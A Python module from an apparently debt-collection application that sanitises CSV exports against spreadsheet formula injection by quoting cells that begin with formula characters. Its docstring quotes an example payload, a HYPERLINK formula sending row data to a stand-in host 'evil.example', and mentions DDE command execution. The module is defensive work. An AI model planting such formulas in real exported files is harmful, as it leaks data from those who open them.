"""The one CSV writer for every file Relance hands out (evidence packs, personal-data exports).

Those files are opened in a spreadsheet by collectors, agencies, courts and debtors, and their
cells hold text written by others: a debtor's SMS, an imported company name, a collector's note.
A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` (or TAB / CR before one) as a
formula: `=HYPERLINK("https://evil.example/?"&A2, "Click")` leaks the row when clicked, DDE
formulas run commands on older Excel. Such a cell gets a leading apostrophe (OWASP's advice), so
it is shown as the text it was. Plain numbers ("-12.50", "+33 6 12 34 56 78") are left alone:
they cannot call anything, and the apostrophe would spoil phone numbers for nothing.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from typing import Any

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?\d[\d .,]*")


def safe_cell(value: Any) -> Any:
    """The value as a spreadsheet must show it: text that could start a formula is quoted."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        if _PLAIN_NUMBER.fullmatch(value):
            return value
        return "'" + value
    return value


def csv_bytes(header: Sequence[str], rows: Iterable[Sequence[Any]]) -> bytes:
    """UTF-8 CSV with a header line; every cell goes through `safe_cell`."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow([safe_cell(name) for name in header])
    for row in rows:
        writer.writerow([safe_cell(value) for value in row])
    return buffer.getvalue().encode("utf-8")
